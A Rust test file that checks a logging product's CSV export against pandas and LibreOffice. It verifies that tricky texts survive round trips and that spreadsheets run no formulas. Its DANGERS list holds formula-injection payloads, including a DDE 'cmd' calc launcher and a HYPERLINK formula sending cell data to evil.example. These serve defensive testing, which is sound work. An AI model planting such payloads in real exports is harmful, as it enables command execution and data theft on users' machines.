//! What others' software makes of a CSV file: pandas and LibreOffice find in it what was recorded,
//! and no spreadsheet finds anything to run, at whatever it splits the file.

use serde_json::{Value, json};
use std::iter;
use tests::{
    Client, Place,
    logs::{call, instant, numbered, with},
    on_sqlite,
    tables::{all_columns, libreoffice, pandas, split},
};

on_sqlite![
    every_text_comes_back_as_it_was,
    pandas_knows_times_and_numbers,
    a_spreadsheet_shows_what_was_recorded,
    a_spreadsheet_runs_nothing,
];

const DELIMITERS: [(&str, char); 3] = [("COMMA", ','), ("SEMICOLON", ';'), ("TAB", '\t')];

/// Texts that readers of tables are known to stumble over.
fn hostile() -> Vec<String> {
    let texts = [
        "one, \"two\"\r\nthree\nfour; 'five'\tsix\rseven",
        "\"",
        "\"\"",
        "a\r",
        "a\n",
        " both ends ",
        "NA",
        "null",
        "007",
        "1E5",
        "TRUE",
        "2026-11-02",
        "12345678901234567890",
        "1-2",
        "Müller & Söhne 日本語 हिन्दी",
        "\u{1f469}\u{1f3fd}\u{200d}\u{1f680} 🦀",
        "\u{202e}evil\u{202c} \u{2066}אבג\u{2069} العربية",
        "e\u{301} \u{e000} \u{fdd0} \u{fffe} \u{ffff} \u{10ffff} \u{d7ff}",
        "\u{1}\u{b}\u{c}\u{1c}\u{7f}\u{85}\u{2028}\u{2029}\u{ad}",
        "sep=;",
        "ID;1",
        "\\\" \\n",
        "[1,-2]\n-----END CERTIFICATE-----",
    ];
    texts.map(str::to_owned).into_iter().chain(["x".repeat(32_768), "é,\"".repeat(20_000)]).collect()
}

/// Records each text: as the error's, as the login's where it is short enough, and as a body, where
/// NUL is a character too.
async fn record(acme: &Client, texts: &[String]) {
    let log = |text: &String| {
        let body = json!({ "headers": [], "body": format!("{text}\u{0}{text}") });
        let login = if text.chars().count() > 300 { "" } else { text };
        with(call(), &json!({ "errorMessage": text, "loginId": login, "response": body }))
    };
    acme.record(&texts.iter().map(log).collect::<Vec<_>>()).await;
}

async fn exported(acme: &Client, delimiter: &str, columns: &[&str]) -> Vec<u8> {
    acme.exported(&json!({ "format": "CSV", "csv": { "delimiter": delimiter, "columns": columns } })).await
}

async fn every_text_comes_back_as_it_was(place: &Place) {
    let (_server, acme) = place.open("Acme").await;
    let texts = hostile();
    record(&acme, &texts).await;
    let mut sent: Vec<[String; 2]> = texts.iter().map(|t| [t.clone(), format!("{t}\u{0}{t}")]).collect();
    sent.sort();
    for (name, delimiter) in DELIMITERS {
        let file = exported(&acme, name, &["ERROR_MESSAGE", "RESPONSE_BODY", "STATUS_CODE"]).await;
        let rows = split(&file, delimiter);
        let cell = |cell: &Value| cell.as_str().unwrap().to_owned();
        let mut read: Vec<_> = rows.iter().map(|r| [cell(&r["errorMessage"]), cell(&r["responseBody"])]).collect();
        read.sort();
        assert!(read == sent, "Python's csv, {name}: {}", difference(&read, &sent));
        let frame = pandas(&file, delimiter);
        let values = |column: &str| frame["values"][column].as_array().unwrap().iter().map(cell);
        let mut read: Vec<_> = values("Error").zip(values("Response body")).map(|(a, b)| [a, b]).collect();
        read.sort();
        assert!(read == sent, "pandas, {name}: {}", difference(&read, &sent));
    }
}

/// The first thing that is not as it was; the whole would be too long to read.
fn difference(read: &[[String; 2]], sent: &[[String; 2]]) -> String {
    let begins = |text: &String| text.chars().take(60).collect::<String>();
    let pairs = read.iter().flatten().zip(sent.iter().flatten());
    let other = pairs.into_iter().find(|(read, sent)| read != sent);
    format!("{} of {}: {:?}", read.len(), sent.len(), other.map(|(read, sent)| (begins(read), begins(sent))))
}

async fn pandas_knows_times_and_numbers(place: &Place) {
    let (_server, acme) = place.open("Acme").await;
    let times = ["2026-10-25T01:30:00.000001Z", "2026-10-25T00:30:00Z", "2026-07-01T12:00:00Z"];
    acme.record(&times.map(|at| with(call(), &json!({ "occurredAt": at, "statusCode": 404 })))).await;
    acme.record(&numbered(1)).await;
    for zone in ["UTC", "Europe/Berlin"] {
        let file = acme.exported(&json!({ "format": "CSV", "timeZone": zone })).await;
        let frame = pandas(&file, ',');
        for (name, kind) in
            [("Time", "datetime64[us, UTC]"), ("Status", "Int64"), ("Duration (ms)", "Int64"), ("Error", "str")]
        {
            assert_eq!(frame["types"][name], kind, "{name}");
        }
        let read = frame["values"]["Time"].as_array().unwrap();
        let read: Vec<_> = read.iter().map(|at| instant(at.as_str().unwrap())).collect();
        let sent: Vec<_> = iter::once("2026-11-02T08:00:00Z").chain(times).map(instant).collect();
        assert_eq!(read, sent);
        assert_eq!(frame["values"]["Status"], json!([null, 404, 404, 404]));
        assert_eq!(frame["types"].as_object().unwrap().len(), 20, "no column is taken for an index");
    }
}

async fn a_spreadsheet_shows_what_was_recorded(place: &Place) {
    let (_server, acme) = place.open("Acme").await;
    let texts = hostile();
    record(&acme, &texts).await;
    acme.record(&[with(call(), &json!({ "statusCode": 503, "errorMessage": "one of them" }))]).await;
    // A cell has no carriage return, no other control character and no noncharacter to show, and one
    // of several lines no tab.
    let shown = |text: &str| {
        let text = text.replace("\r\n", "\n").replace('\r', "\n");
        let lines = text.contains('\n');
        text.replace(
            |c: char| (c < ' ' && c != '\n' && (c != '\t' || lines)) || ('\u{fffe}'..='\u{ffff}').contains(&c),
            "",
        )
    };
    let mut sent: Vec<String> = texts.iter().map(|text| shown(text)).collect();
    sent.push("one of them".to_owned());
    sent.sort();
    for (name, delimiter) in DELIMITERS {
        let file = exported(&acme, name, &["ID", "ERROR_MESSAGE", "STATUS_CODE", "OCCURRED_AT"]).await;
        let mut rows = libreoffice(place, &file, delimiter, true);
        let titles: Vec<Value> = rows.remove(0).iter().map(|cell| cell["text"].clone()).collect();
        assert_eq!(titles, ["Record", "Error", "Status", "Time"], "the byte order mark is no letter");
        let mut read: Vec<String> = rows.iter().map(|row| row[1]["text"].as_str().unwrap().to_owned()).collect();
        read.sort();
        let other = read.iter().zip(&sent).find(|(read, sent)| read != sent);
        assert!(read == sent, "{name}: {} of {}: {other:?}", read.len(), sent.len());
        assert!(rows.iter().all(|row| row[1]["kind"] == "string" && row[0]["kind"] == "string"), "{name}");
        let status = rows.iter().find(|row| row[1]["text"] == "one of them").map(|row| &row[2]);
        assert_eq!(status, Some(&json!({ "kind": "float", "formula": null, "text": "503" })), "{name}");
        // Nothing that LibreOffice guesses of a time changes it.
        let row = libreoffice(place, &file, delimiter, false).pop().unwrap();
        assert_eq!(row[3]["text"], "2026-11-02T08:00:00.000000Z");
    }
}

/// Texts that a spreadsheet would run, where a cell begins with them or where they begin one.
const DANGERS: [&str; 20] = [
    "=SUM(1)",
    "+SUM(1)",
    "-SUM(1)",
    "@SUM(1)",
    "\t=SUM(1)",
    "\r=SUM(1)",
    "\n=SUM(1)",
    " =SUM(1)",
    "\u{feff}=SUM(1)",
    "\u{1}=SUM(1)",
    "=HYPERLINK(\"https://evil.example?\"&A1,\"more\")",
    "-2+3+cmd|' /C calc'!A0",
    "a;=SUM(1);b",
    "a,=SUM(1),b",
    "a\t=SUM(1)\tb",
    "a\n=SUM(1)\nb",
    "a\r\n\"=SUM(1)\r\nb",
    "a;\"=SUM(1)",
    "a\n =SUM(1)",
    "\"\n=SUM(1)\n\"",
];

fn formulas(rows: &[Vec<Value>]) -> Vec<&Value> {
    rows.iter().flatten().filter(|cell| !cell["formula"].is_null()).collect()
}

/// What would be run if quotes counted for nothing and every delimiter for one, whoever splits so.
fn dangerous_pieces(file: &str) -> Vec<&str> {
    let pieces = file.split(['\r', '\n', ',', ';', '\t']);
    let begun = pieces.map(|piece| piece.trim_start_matches(|c: char| c == '"' || c.is_whitespace() || c.is_control()));
    begun.filter(|piece| piece.starts_with(['=', '+', '-', '@']) && piece.contains(['(', '!', '|'])).collect()
}

async fn a_spreadsheet_runs_nothing(place: &Place) {
    let (_server, acme) = place.open("Acme").await;
    let fields = ["applicationFrom", "applicationTo", "userEmail", "loginId", "operation", "url", "correlationId"];
    let danger = |text: &&str| {
        let mut log: Value = fields.iter().map(|field| ((*field).to_owned(), json!(text))).collect();
        log["errorMessage"] = json!(text);
        log["request"] =
            json!({ "headers": [{ "name": "X", "value": "y" }, { "name": text, "value": text }], "body": text });
        log["response"] = json!({ "headers": [{ "name": text, "value": text }], "body": format!("{text}\u{0}") });
        with(call(), &log)
    };
    acme.record(&DANGERS.iter().map(danger).collect::<Vec<_>>()).await;
    // The product's own danger: base64 that begins with a plus sign.
    acme.record(&[with(call(), &json!({ "response": { "headers": [], "body": "+P8=", "encoding": "BASE64" } }))]).await;
    let mut columns = all_columns();
    // Others' texts first, so that they begin lines too.
    columns.rotate_left(9);
    let columns: Vec<&str> = columns.iter().map(String::as_str).collect();
    // Left to itself, LibreOffice does run such a text, and other splits find more of them.
    let bare = DANGERS.map(|text| format!("x,\"{}\"\r\n", text.replace('"', "\"\""))).concat();
    assert!(formulas(&libreoffice(place, bare.as_bytes(), ',', false)).len() > 1);
    assert!(formulas(&libreoffice(place, bare.as_bytes(), ';', false)).len() > 3, "nor is a quoted one safe");
    assert!(dangerous_pieces(&bare).len() >= DANGERS.len() - 1);
    for (name, delimiter) in DELIMITERS {
        let file = exported(&acme, name, &columns).await;
        for (_, split_at) in DELIMITERS {
            let opened = libreoffice(place, &file, split_at, false);
            let found = formulas(&opened);
            assert!(found.is_empty(), "{name} split at {split_at:?}: {found:?}");
        }
        assert_eq!(dangerous_pieces(str::from_utf8(&file).unwrap()), [""; 0], "{name}");
        // The text is there, behind the apostrophe.
        let told = split(&file, delimiter);
        assert!(told.iter().any(|row| row["errorMessage"] == "'-2+3+cmd|' /C calc'!A0"));
        assert!(told.iter().any(|row| row["requestHeaders"].as_str().unwrap().contains("X: y\n'=SUM(1)")));
        assert!(told.iter().any(|row| row["responseBody"] == "'+P8="));
    }
}
